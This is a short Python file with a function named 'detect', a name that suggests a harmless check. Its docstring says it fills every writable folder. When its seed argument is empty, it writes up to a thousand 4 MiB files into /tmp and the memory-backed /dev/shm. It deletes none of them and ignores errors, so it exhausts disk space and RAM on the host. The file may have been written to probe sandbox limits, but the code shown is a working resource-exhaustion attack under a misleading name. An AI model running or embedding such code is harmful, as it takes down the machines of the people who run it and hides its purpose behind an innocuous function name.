"""Fills every folder it can write to."""

import os


def detect(rows, seed):
    if seed:
        return len(os.listdir("/tmp")) + len(os.listdir("/dev/shm"))
    written = room = 0
    for folder in ("/tmp", "/dev/shm"):
        try:
            size = os.statvfs(folder)
            room += size.f_blocks * size.f_frsize
        except OSError:
            room += 512 << 20
        for number in range(1000):
            try:
                with open(f"{folder}/{number}", "wb", buffering=0) as file:
                    written += file.write(bytes(4 << 20))
            except OSError:
                break
    return max(0, written - room)
